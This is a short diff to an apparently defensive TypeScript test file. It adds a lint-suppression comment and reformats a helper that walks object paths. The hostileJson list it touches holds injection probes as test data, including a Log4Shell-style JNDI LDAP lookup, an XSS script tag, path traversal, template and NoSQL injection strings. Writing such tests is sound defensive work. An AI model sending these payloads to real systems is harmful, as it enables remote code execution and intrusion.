@@ -168,6 +168,7 @@ const hostileJson: readonly string[] = [
   '"..%2F..%2F"',
   '"%00"',
   '"<script>alert(1)</script>"',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style lookup string, sent as it is.
   '"${jndi:ldap://example.invalid/a}"',
   '"{{7*7}}"',
   '"$where"',
@@ -346,7 +347,9 @@ type Path = Array<string | number>;
 function pathsOf(value: unknown, prefix: Path = []): Path[] {
   const result: Path[] = [];
   if (Array.isArray(value)) {
-    value.forEach((item, index) => result.push([...prefix, index], ...pathsOf(item, [...prefix, index])));
+    value.forEach((item, index) => {
+      result.push([...prefix, index], ...pathsOf(item, [...prefix, index]));
+    });
   } else if (value !== null && typeof value === 'object') {
     for (const [key, item] of Object.entries(value)) result.push([...prefix, key], ...pathsOf(item, [...prefix, key]));
   }
